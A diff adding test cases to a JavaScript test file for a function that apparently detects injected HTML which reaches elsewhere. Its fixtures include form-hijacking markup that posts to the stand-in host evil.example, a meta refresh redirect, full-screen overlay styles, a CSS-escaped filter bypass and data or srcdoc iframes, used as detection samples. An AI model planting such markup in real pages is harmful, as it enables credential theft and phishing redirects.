@@ -46,3 +46,26 @@ test.each([
 ])("nothing is found in %s", (markup) => {
   expect(brings("<p>a</p>", markup)).toBe(false);
 });
+
+test.each([
+  "<button form=login formaction=https://evil.example>x</button>",
+  "<input type=image form=login>",
+  "<form action=https://evil.example><input name=a></form>",
+  '<p style="position:fixed;inset:0;z-index:9">x</p>',
+  '<p style="P\\6fsition: sticky">x</p>',
+  '<iframe src="data:text/html,x"></iframe>',
+  '<iframe srcdoc="x"></iframe>',
+  '<noscript><meta http-equiv=refresh content="0;//evil.example"></noscript>',
+])("a part that reaches elsewhere is found in %s", (markup) => {
+  expect(brings("<p>a</p>", `<p>a</p>${markup}`)).toBe(true);
+});
+
+test.each([
+  '<iframe src="https://maps.example/embed?q=1" width=600></iframe>',
+  "<form action=/search><input name=q><button form=f>x</button></form>",
+  "<noscript><img src=count.gif></noscript>",
+  '<p style="position:sticky;top:0">x</p>',
+  "<script>count()</script>",
+])("a part that is there already may stay when the text beside it changes: %s", (markup) => {
+  expect(brings(`<p>a</p>${markup}`, `<p style="position:relative">b</p><p>c</p>${markup}`)).toBe(false);
+});
